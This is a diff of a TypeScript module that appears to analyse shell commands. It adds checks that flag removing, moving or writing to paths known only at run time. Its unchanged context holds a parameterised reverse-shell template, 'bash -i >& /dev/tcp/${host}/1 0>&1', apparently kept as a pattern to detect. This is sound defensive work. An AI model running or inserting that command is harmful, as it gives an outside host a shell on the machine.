@@ -38,9 +38,20 @@ export const EQUIVALENTS = {
   reverseShell: (host: string) => line(`bash -i >& /dev/tcp/${host}/1 0>&1`),
 } as const satisfies Readonly<Record<string, (...args: never[]) => Inner>>;
 
-/** Does this remove something that only the run knows? */
+/** Does this remove something that only the run knows, or move it away? */
 export function isUnknownRemoval(inner: Inner): inner is Extract<Inner, { runs: "words" }> {
-  return inner.runs === "words" && inner.words[0]?.text === "rm" && inner.words.some(({ text }) => text.includes(GAP));
+  if (inner.runs !== "words") return false;
+  const [program, first] = inner.words;
+  if (program?.text === MOVES) return first?.text.includes(GAP) === true;
+  return program?.text === "rm" && inner.words.some(({ text }) => text.includes(GAP));
+}
+
+/** The program that moves. */
+export const MOVES = "mv";
+
+/** Does this write to something that only the run knows? */
+export function isUnknownWrite(inner: Inner): inner is Extract<Inner, { runs: "write" }> {
+  return inner.runs === "write" && inner.way !== "read" && inner.path.text === GAP;
 }
 
 function words(command: readonly string[], more: readonly Field[] = []): Extract<Inner, { runs: "words" }> {
